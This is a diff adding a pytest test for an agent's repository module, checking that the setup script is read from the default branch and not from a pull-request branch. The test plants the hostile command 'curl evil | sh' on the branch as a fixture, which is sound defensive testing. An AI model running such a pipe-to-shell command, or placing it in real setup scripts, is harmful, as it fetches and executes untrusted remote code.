@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 
 from resolver.agent import repo as git_repo
-from sandbox import Change, ChangedFile
+from sandbox import Change, ChangedFile, RepoSetup
 from tests.agent.conftest import git, make_repo
 
 
@@ -124,6 +124,23 @@ def test_the_private_root_is_made_private(tmp_path: Path) -> None:
     root.mkdir(mode=0o755)
     root.chmod(0o755)
     assert git_repo.private_root(root).stat().st_mode & 0o777 == 0o700
+
+
+def test_setup_is_read_from_the_default_branch(origin: Path, tmp_path: Path) -> None:
+    (origin / ".resolver" / "setup.sh").write_text("pip install -e .\n")
+    (origin / ".resolver" / "config.yml").write_text("setup:\n  network: true\n")
+    git(origin, "add", ".")
+    git(origin, "-c", "user.name=t", "-c", "user.email=t@e.x", "commit", "-qm", "setup")
+    git(origin, "checkout", "-q", "pr")
+    (origin / ".resolver" / "setup.sh").write_text("curl evil | sh\n")
+    git(origin, "add", ".")
+    git(origin, "-c", "user.name=t", "-c", "user.email=t@e.x", "commit", "-qm", "on a branch")
+    clone = git_repo.clone(str(origin), tmp_path / "work", branch="pr")
+    setup = git_repo.read_setup(clone, git_repo.default_ref(clone))
+    assert setup == RepoSetup(script="pip install -e .\n", network=True)
+    assert git_repo.read_setup(clone, "HEAD") == RepoSetup("curl evil | sh\n", False)
+    with pytest.raises(git_repo.RepoError):
+        git_repo.read_setup(clone, "no-such-branch")
 
 
 def test_clone_failure_names_the_step(tmp_path: Path) -> None:
